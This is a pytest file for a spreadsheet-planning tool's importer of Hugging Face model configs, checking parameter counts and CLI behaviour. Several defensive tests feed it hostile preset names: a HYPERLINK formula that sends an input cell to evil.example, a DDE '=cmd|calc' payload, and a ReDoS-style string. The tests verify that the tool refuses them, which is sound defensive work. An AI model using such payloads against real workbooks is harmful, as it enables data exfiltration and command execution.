"""Importing a model from its Hugging Face config.json: the derived counts against published totals, and the CLI."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import xlsxplan as x
from tests.helpers import DATA
from xlsxplan.catalog import user_catalog_dir
from xlsxplan.catalog.hfconfig import figures_from_config, read_config
from xlsxplan.catalog.models import model_kv_bytes_per_token
from xlsxplan.cli import main
from xlsxplan.errors import ArgumentError
from xlsxplan.headless.engine import evaluate_formula

# (config file, published total, published active or None, citation)
PUBLISHED = [
    ("llama-3.1-8b.json", 8_030_261_248, None, "meta-llama/Llama-3.1-8B safetensors total (catalog llama31-card)"),
    ("llama-3.1-70b.json", 70_553_706_496, None, "meta-llama/Llama-3.1-70B safetensors total (catalog llama31-card)"),
    ("qwen2.5-7b.json", 7.61e9, None, "Qwen/Qwen2.5-7B-Instruct model card: Number of Parameters 7.61B"),
    ("qwen3-30b-a3b.json", 30.5e9, 3.3e9, "Qwen/Qwen3-30B-A3B model card: 30.5B in total and 3.3B activated"),
    ("mixtral-8x7b-v0.1.json", 46.7e9, 12.9e9, "Mixtral of Experts, arXiv:2401.04088; model card 46.7B / 12.9B"),
    ("deepseek-v3.json", 671e9, 37e9, "DeepSeek-V3 Technical Report, arXiv:2412.19437: 671B total, 37B activated"),
    ("gemma-2-9b.json", 9_241_705_984, None, "google/gemma-2-9b safetensors total (catalog gemma2-9b-config)"),
]


@pytest.mark.parametrize("filename, total, active, citation", PUBLISHED, ids=[p[0] for p in PUBLISHED])
def test_parameter_counts_from_configs_match_published_totals(filename, total, active, citation):
    figures = figures_from_config(read_config(DATA / filename), filename)
    assert figures["params_b"] * 1e9 == pytest.approx(total, rel=0.01), citation
    if active is None:
        assert "active_params_b" not in figures
    else:
        # published active counts are rounded to two or three figures (3.3B, 37B): 2%
        assert figures["active_params_b"] * 1e9 == pytest.approx(active, rel=0.02), citation


def test_architecture_fields_from_configs():
    ds = figures_from_config(read_config(DATA / "deepseek-v3.json"))
    assert (ds["kv_lora_rank"], ds["qk_rope_head_dim"], ds["q_lora_rank"]) == (512, 64, 1536)
    assert (ds["experts"], ds["experts_per_token"], ds["shared_experts"], ds["dense_layers"]) == (256, 8, 1, 3)
    gemma = figures_from_config(read_config(DATA / "gemma-2-9b.json"))
    assert (gemma["sliding_window"], gemma["sliding_window_layers"], gemma["tied_embeddings"]) == (4096, 21, True)
    qwen = figures_from_config(read_config(DATA / "qwen2.5-7b.json"))
    assert "sliding_window" not in qwen  # use_sliding_window false: every layer sees the whole context
    mixtral = figures_from_config(read_config(DATA / "mixtral-8x7b-v0.1.json"))
    assert "moe_intermediate" not in mixtral and mixtral["intermediate"] == 14336  # experts as wide as the MLP


def test_gemma3_pattern_and_layer_types():
    base = {
        "model_type": "gemma3_text",
        "num_hidden_layers": 48,
        "hidden_size": 3840,
        "num_attention_heads": 16,
        "num_key_value_heads": 8,
        "head_dim": 256,
        "vocab_size": 262208,
        "max_position_embeddings": 131072,
        "intermediate_size": 15360,
        "sliding_window": 1024,
        "sliding_window_pattern": 6,
    }
    assert figures_from_config(base)["sliding_window_layers"] == 40  # 5 local in 6 (Gemma 3 report, Figure 6)
    listed = dict(base, layer_types=["sliding_attention"] * 47 + ["full_attention"])
    assert figures_from_config(listed)["sliding_window_layers"] == 47


def test_unsupported_or_broken_configs_are_refused_with_the_reason(tmp_path):
    with pytest.raises(ArgumentError, match=r"^c\.json: model_type 'gpt2' is not supported; supported: llama"):
        figures_from_config({"model_type": "gpt2"}, "c.json")
    config = read_config(DATA / "llama-3.1-8b.json")
    del config["num_hidden_layers"]
    with pytest.raises(
        ArgumentError, match=r"^c\.json: num_hidden_layers must be a positive whole number, got missing$"
    ):
        figures_from_config(config, "c.json")
    odd = dict(read_config(DATA / "llama-3.1-8b.json"), num_key_value_heads=5)
    with pytest.raises(ArgumentError, match=r"heads \(32\) must be a multiple of kv_heads \(5\)"):
        figures_from_config(odd, "c.json")
    bad = tmp_path / "config.json"
    bad.write_text("{not json", encoding="utf-8")
    with pytest.raises(ArgumentError, match=r"config\.json: not a JSON config file"):
        read_config(bad)
    with pytest.raises(ArgumentError, match=r"nope\.json: cannot be read"):
        read_config(tmp_path / "nope.json")


@pytest.mark.parametrize("key", ["tie_word_embeddings", "attention_bias", "mlp_bias", "use_sliding_window"])
@pytest.mark.parametrize("value", ["false", "true", 0, 1])
def test_a_yes_or_no_field_is_a_json_boolean_or_refused(key, value):
    # the red team's "tie_word_embeddings": "false" counted as tied (bool("false") is True): a config's booleans
    # are JSON's true and false, a text or a number is refused naming the file and the field
    config = dict(read_config(DATA / "qwen2.5-7b.json"), **{key: value})
    with pytest.raises(ArgumentError, match=rf"^c\.json: {key} must be true or false \(a JSON boolean\), got "):
        figures_from_config(config, "c.json")


def test_json_booleans_and_null_read_as_before():
    qwen = read_config(DATA / "qwen2.5-7b.json")  # tie_word_embeddings false, use_sliding_window false
    untied = figures_from_config(qwen)  # a figure at its default is left out of the preset
    assert not untied.get("tied_embeddings", False) and "sliding_window" not in untied
    tied = figures_from_config(dict(qwen, tie_word_embeddings=True))
    assert tied["tied_embeddings"] is True and tied["params_b"] < untied["params_b"]
    gemma = read_config(DATA / "gemma-2-9b.json")  # no use_sliding_window: the window is used, as null means too
    assert figures_from_config(dict(gemma, use_sliding_window=None))["sliding_window"] == 4096
    assert figures_from_config(dict(qwen, attention_bias=None)) == figures_from_config(dict(qwen, attention_bias=False))


OPTIONAL_FIELDS = (
    "first_k_dense_replace",
    "q_lora_rank",
    "n_shared_experts",
    "moe_intermediate_size",
    "n_routed_experts",
    "num_experts",
    "num_local_experts",
    "decoder_sparse_step",
    "max_window_layers",
    "sliding_window",
    "sliding_window_pattern",
    "shared_expert_intermediate_size",
    "mlp_only_layers",
)


@pytest.mark.parametrize("field", OPTIONAL_FIELDS)
@pytest.mark.parametrize("config_file", ["deepseek-v3.json", "qwen3-30b-a3b.json", "gemma-2-9b.json"])
def test_optional_fields_that_are_null_or_odd_are_read_or_refused_in_one_line(field, config_file):
    # "first_k_dense_replace": null must not raise TypeError (int(None)) out of `model add`. A null
    # optional field means "not used"; a value of the wrong kind is an ArgumentError naming the file and the field.
    base = read_config(DATA / config_file)
    config = dict(base, **{field: None})
    figures_from_config(config, "c.json")
    for odd in ("3", -1, 1.5, True, {"a": 1}):
        try:
            figures_from_config(dict(base, **{field: odd}), "c.json")
        except ArgumentError as err:
            assert "\n" not in err.message and err.message.startswith("c.json: "), err.message
        except Exception as err:  # noqa: BLE001 - what the finding is about
            pytest.fail(f"{field}={odd!r}: {type(err).__name__}: {err}")


def test_a_null_first_k_dense_replace_counts_every_layer_as_moe():
    config = dict(read_config(DATA / "deepseek-v3.json"), first_k_dense_replace=None)
    figures = figures_from_config(config, "c.json")
    assert "dense_layers" not in figures and figures["experts"] == 256
    with pytest.raises(
        ArgumentError,
        match=r"^c\.json: first_k_dense_replace must be a whole number of at least 0 or "
        r"null, got 'three'$",
    ):
        figures_from_config(dict(config, first_k_dense_replace="three"), "c.json")


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_model_add_saves_a_user_preset_usable_in_formulas(capsys):
    code, out, err = run(capsys, "model", "add", DATA / "deepseek-v3.json", "--name", "My-DeepSeek")
    assert (code, err) == (0, "")
    assert "671.0B total, 37.55B active per token" in out
    assert "70,272 bytes per token" in out
    saved = user_catalog_dir() / "models.toml"
    assert saved.is_file() and "My-DeepSeek" in saved.read_text(encoding="utf-8")
    assert x.model_spec("My-DeepSeek", "kv_lora_rank") == 512
    assert model_kv_bytes_per_token("My-DeepSeek") == 70_272
    assert evaluate_formula('=MODEL_SPEC("My-DeepSeek","params_b")').value == pytest.approx(671.026404)
    assert "sha256" in x.model_source("My-DeepSeek", "params_b")
    code, out, _ = run(capsys, "model", "list")
    assert code == 0 and "My-DeepSeek" in out and "(user)" in out
    code, out, _ = run(capsys, "model", "show", "My-DeepSeek")
    assert code == 0 and "kv_lora_rank           512" in out


def test_model_add_names_the_preset_after_the_file(capsys, tmp_path):
    folder = tmp_path / "my-llama"
    folder.mkdir()
    (folder / "config.json").write_text((DATA / "llama-3.1-8b.json").read_text(encoding="utf-8"), encoding="utf-8")
    code, out, _ = run(capsys, "model", "add", folder / "config.json")
    # where it went and under what name, and why that name
    assert code == 0 and out.startswith(f"added my-llama to {user_catalog_dir() / 'models.toml'}\n")
    assert out.splitlines()[1] == (
        f"  named after its folder's name; `xlsxplan model add {folder / 'config.json'} --name NAME` saves it "
        "under another name"
    )
    assert x.model_spec("my-llama", "kv_heads") == 8


def test_model_add_refuses_to_shadow_a_shipped_preset_or_replace_silently(capsys):
    code, _, err = run(capsys, "model", "add", DATA / "gemma-2-9b.json")  # named gemma-2-9b: a shipped alias
    assert code == 2
    assert "user preset 'gemma-2-9b' takes the name 'gemma-2-9b' of the shipped preset 'Gemma-2-9B'" in err
    assert run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7")[0] == 0
    code, _, err = run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7")
    assert code == 2 and "a user preset 'Q7' exists already" in err
    assert run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7", "--replace")[0] == 0


def test_model_add_with_a_null_field_exits_cleanly(capsys, tmp_path):
    path = tmp_path / "ds.json"
    path.write_text(json.dumps(dict(read_config(DATA / "deepseek-v3.json"), first_k_dense_replace=None)))
    assert run(capsys, "model", "add", path, "--name", "DS-null")[0] == 0
    path.write_text(json.dumps(dict(read_config(DATA / "deepseek-v3.json"), first_k_dense_replace=[3])))
    code, out, err = run(capsys, "model", "add", path, "--name", "DS-list")
    assert code == 2 and err.count("\n") == 1 and "first_k_dense_replace must be a whole number" in err


def test_model_add_reports_a_bad_file_with_exit_2(capsys, tmp_path):
    path = tmp_path / "broken.json"
    path.write_text(json.dumps({"model_type": "llama"}), encoding="utf-8")
    code, _, err = run(capsys, "model", "add", path)
    assert code == 2
    assert err.startswith("xlsxplan: error: ") and "num_hidden_layers must be a positive whole number" in err


def test_model_add_with_a_broken_user_catalog_or_folder_is_one_line(capsys, tmp_path, monkeypatch):
    # A malformed models.toml must not raise TOMLDecodeError, nor a catalog folder that is a file
    # FileExistsError, as tracebacks: one line each
    (user_catalog_dir() / "models.toml").write_text("[models.Mine\n", encoding="utf-8")
    code, _, err = run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7")
    assert code == 2 and err.count("\n") == 1 and "models.toml: not valid TOML" in err
    (tmp_path / "file").write_text("x", encoding="utf-8")
    monkeypatch.setenv("XLSXPLAN_CATALOG_DIR", str(tmp_path / "file"))
    code, _, err = run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7")
    assert code == 2 and err.count("\n") == 1 and "as a folder: it is a file" in err


def test_model_add_reads_the_config_once(capsys, monkeypatch):
    # The config is read once, not once for its figures and again for its checksum
    import xlsxplan.infra.fileio

    reads = []
    for method in ("read_bytes", "read_text"):
        real = getattr(Path, method)
        monkeypatch.setattr(
            Path, method, lambda self, *a, _real=real, **k: reads.append(self.name) or _real(self, *a, **k)
        )
    regular = xlsxplan.infra.fileio.read_regular  # what reads it: a regular file only, never blocking
    monkeypatch.setattr(
        xlsxplan.infra.fileio,
        "read_regular",
        lambda path, *a, **k: reads.append(Path(path).name) or regular(path, *a, **k),
    )
    assert run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", "Q7")[0] == 0
    assert reads.count("qwen2.5-7b.json") == 1
    assert "sha256 " in x.model_source("Q7", "layers")


def test_model_add_suggests_formulas_that_parse_whatever_the_name(capsys):
    # a name with quotes: the suggested formulas double them, as Excel's text literals do, and work as printed
    code, out, _ = run(capsys, "model", "add", DATA / "qwen2.5-7b.json", "--name", 'My "Q" 7B')
    assert code == 0
    line = next(line for line in out.splitlines() if line.strip().startswith("use it as"))
    first = line.split("use it as", 1)[1].strip().split(", =")[0]
    assert first == '=MODEL_SPEC("My ""Q"" 7B", "layers")'
    assert evaluate_formula(first).value == 28


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&Inputs!B5,"Qwen")', "+1", "-cmd", "@SUM(A1)"])
def test_a_preset_name_a_spreadsheet_would_read_as_a_formula_is_refused(name, capsys):
    # names are data: written into every edition's cells and typed into formulas, so a name starting with = + - @
    # (the red team's HYPERLINK sending an input's value elsewhere, shown as "Qwen2.5-72B") never becomes a preset
    code = main(["model", "add", str(DATA / "qwen2.5-7b.json"), f"--name={name}"])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1
    assert "which a spreadsheet reads as the start of a formula" in err and "(--name)" in err
    assert not (user_catalog_dir() / "models.toml").exists()


def test_a_hand_written_user_preset_with_such_a_name_is_refused_with_the_file():
    folder = user_catalog_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "models.toml").write_text(
        "[sources]\n'user:a' = 'mine'\n\n[models.'=EVIL()']\nsource = 'user:a'\nparams_b = 7.6\nlayers = 28\n"
        "hidden = 3584\nheads = 28\nkv_heads = 4\nhead_dim = 128\nvocab = 152064\ncontext = 32768\n",
        encoding="utf-8",
    )
    from xlsxplan.catalog import catalog_problems, refresh

    refresh()
    problems = catalog_problems()
    assert any("models.toml" in p and "=EVIL()" in p and "formula" in p for p in problems), problems
    assert "=EVIL()" not in x.model_names()


def test_a_dde_call_as_a_name_never_reaches_a_workbook(tmp_path, capsys):
    # a config whose _name_or_path is a DDE call became a preset, and build wrote it into the portable edition's
    # Catalog sheet as a formula, then failed with "cannot tokenize the formula", naming neither preset nor catalog
    import openpyxl

    from xlsxplan.catalog import catalog_problems, refresh
    from xlsxplan.sheet import native

    dde = "=cmd|'calc'!A0"
    config = json.loads((DATA / "qwen2.5-7b.json").read_text())
    path = tmp_path / "config.json"
    path.write_text(json.dumps({**config, "_name_or_path": dde}))
    code = main(["model", "add", str(path)])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and dde in err and "formula" in err, err
    assert not (user_catalog_dir() / "models.toml").exists()
    # written by hand, it is left out with one line naming the file and the preset, and no cell holds it
    folder = user_catalog_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "models.toml").write_text(
        f"[sources]\n'user:a' = 'mine'\n\n[models.\"{dde}\"]\nsource = 'user:a'\nparams_b = 7.6\nlayers = 28\n"
        "hidden = 3584\nheads = 28\nkv_heads = 4\nhead_dim = 128\nvocab = 152064\ncontext = 32768\n",
        encoding="utf-8",
    )
    refresh()
    problems = catalog_problems()
    assert len(problems) == 1 and "models.toml" in problems[0] and dde in problems[0], problems
    ws = openpyxl.Workbook().active
    native.write_catalog(ws)
    assert not [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "cmd|" in c.value]


@pytest.mark.slow
def test_an_unterminated_run_of_escaped_quotes_is_read_in_linear_work(tmp_path, monkeypatch, capsys):
    """Issue 27: ``model add`` on a 40 kB config whose name is an unterminated run of ``\\"`` took 20 s (the string
    pattern failed at each quote after reading to the end). Now each size is one pass: one string token, spanning the
    run, and the command refuses the file in one line, at 1x, 4x and 10x."""
    from tests.helpers.hangs import SIZES, CountingPattern, linear, unterminated_escapes
    from xlsxplan.catalog import hfconfig
    from xlsxplan.cli import main

    work = {}
    for size in SIZES:
        counter = CountingPattern(hfconfig._TOKEN)
        monkeypatch.setattr(hfconfig, "_TOKEN", counter)
        path = tmp_path / f"config{size}.json"
        path.write_bytes(unterminated_escapes(20_000 * size))
        assert main(["model", "add", str(path)]) == 2
        err = capsys.readouterr().err
        assert len(err.strip().splitlines()) == 1 and "not a JSON config file: Unterminated string" in err, err
        assert counter.matches == 3  # the object's '{', the key and the value's one string, to the end
        assert counter.spanned == path.stat().st_size - 2  # every byte but the ': ' between them, once
        work[size] = counter.matches + counter.spanned
    assert linear(work), work
